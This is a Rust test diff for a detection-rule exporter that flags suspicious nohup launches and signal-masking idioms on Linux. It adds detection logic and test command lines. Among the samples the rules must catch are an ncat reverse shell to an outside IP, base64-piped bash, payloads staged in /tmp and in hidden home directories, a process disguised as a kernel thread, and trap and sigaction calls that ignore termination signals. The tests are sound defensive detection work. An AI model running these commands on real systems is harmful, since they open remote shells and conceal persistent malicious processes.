@@ -134,11 +134,19 @@ fn nohup_rule_fires(command_line: &str) -> bool {
         })
     };
     let masquerade = single("indicator_masquerade") && !single("filter_masquerade");
+    // A tool directory directly under a home is not hidden, unless a dot-part
+    // follows it: `(hidden and not (filter_tool_dir and not hidden_below_tool_dir))`.
+    let hidden = single("indicator_hidden_path")
+        && (!single("filter_tool_dir") || single("hidden_below_tool_dir"));
     let other = items
         .iter()
-        .filter(|(n, _)| n.starts_with("indicator_") && !n.starts_with("indicator_masquerade"))
+        .filter(|(n, _)| {
+            n.starts_with("indicator_")
+                && !n.starts_with("indicator_masquerade")
+                && !n.starts_with("indicator_hidden_path")
+        })
         .any(|(n, _)| single(n));
-    other || masquerade
+    other || masquerade || hidden
 }
 
 #[test]
@@ -154,6 +162,19 @@ fn nohup_rules_fire_on_payloads_not_on_admin_jobs() {
         "nohup /bin/bash -i -l",
         "nohup ncat --sh-exec /bin/sh 10.0.0.1 9",
         "sh -c 'echo ZWNobw== | base64 -d | bash'",
+        // Wrappers nohup runs before the program, and nohup's `--`.
+        "nohup nice -n 19 /tmp/m01 0.2",
+        "nohup stdbuf -oL timeout 5 /tmp/m02 0.2",
+        "nohup env A=1 python3 /dev/shm/x.py",
+        "start-stop-daemon --start --exec /usr/bin/nohup -- /tmp/m30 0.2",
+        // Every staging area that is a plain prefix, not only the seed's three.
+        "unshare -m nohup /run/lock/k/m32 0.2",
+        "nohup /var/crash/.x 1",
+        // A hidden directory below a home's tool directory is still hidden.
+        "nohup /root/.local/.x/agent",
+        "nohup /home/bob/.cache/.sys/kdevtmpfsi",
+        // nohup renamed by `exec -a` inside a shell string.
+        "bash -c 'exec -a [kworker/0:2] nohup /opt/p/k12.sh'",
     ] {
         assert!(nohup_rule_fires(fires), "{fires}");
     }
@@ -164,6 +185,14 @@ fn nohup_rules_fire_on_payloads_not_on_admin_jobs() {
         "nohup /usr/sbin/sshd -D",
         "nohup ./build.sh > /tmp/build.log",
         "nohup java -jar /opt/app.jar",
+        // A per-user tool directory is where pip, cargo and npm install programs.
+        "nohup /root/.local/bin/sighunt-tool 0.2",
+        "nohup /home/bob/.cargo/bin/worker",
+        "nohup python3 /home/bob/.local/bin/serve.py",
+        // A wrapper's arguments are not the program.
+        "nohup nice -n 19 bash backup.sh",
+        "nohup timeout 5 ./build.sh /tmp/out",
+        "nohup env TMPDIR=/tmp/x ./run.sh",
     ] {
         assert!(!nohup_rule_fires(quiet), "{quiet}");
     }
@@ -239,4 +268,49 @@ fn sumo_query_for_the_default_rules_is_pinned() {
         linux.as_str(),
         include_str!("../../../../tests/fixtures/export/sighunt_nohup_linux.sumo")
     );
+}
+
+/// The signal-masking rule's one-regex items on a command line.
+fn signal_rule_fires(command_line: &str) -> bool {
+    let files = export_at(&Rules::embedded(), ExportFormat::Sigma, at()).unwrap();
+    let rule = &files
+        .iter()
+        .find(|(n, _)| n == "proc_creation_lnx_sighunt_signal_mask.yml")
+        .unwrap()
+        .1;
+    let lines: Vec<&str> = rule.lines().collect();
+    lines.iter().enumerate().any(|(i, line)| {
+        let Some((_, v)) = line.split_once("CommandLine|re: ") else {
+            return false;
+        };
+        // An item of this one regex (the next line starts another item).
+        let alone = lines
+            .get(i + 1)
+            .is_none_or(|next| !next.starts_with("        "));
+        let v = v.trim();
+        alone
+            && regex::Regex::new(&v[1..v.len() - 1].replace("''", "'"))
+                .unwrap()
+                .is_match(command_line)
+    })
+}
+
+#[test]
+fn signal_rules_fire_on_each_masking_idiom_not_on_handlers() {
+    for fires in [
+        r#"sh -c 'trap -- '\'''\'' 1 15; exec /tmp/m22 0.2'"#,
+        r#"sh -c 'trap -- "" HUP TERM; exec ./x'"#,
+        r#"node -e 'process.on("SIGTERM", () => {}); setTimeout(() => {}, 200)'"#,
+        r#"node -e "process.on('SIGINT', function () {})""#,
+        r#"perl -MPOSIX -e 'POSIX::sigaction(SIGTERM, POSIX::SigAction->new("IGNORE")); exec "/tmp/m19"'"#,
+    ] {
+        assert!(signal_rule_fires(fires), "{fires}");
+    }
+    for quiet in [
+        r#"node -e 'process.on("SIGTERM", () => { server.close(); })'"#,
+        r#"sh -c 'trap "rm -f /tmp/lock" TERM; ./job'"#,
+        r#"perl -MPOSIX -e 'POSIX::sigaction(SIGTERM, POSIX::SigAction->new(\&done))'"#,
+    ] {
+        assert!(!signal_rule_fires(quiet), "{quiet}");
+    }
 }
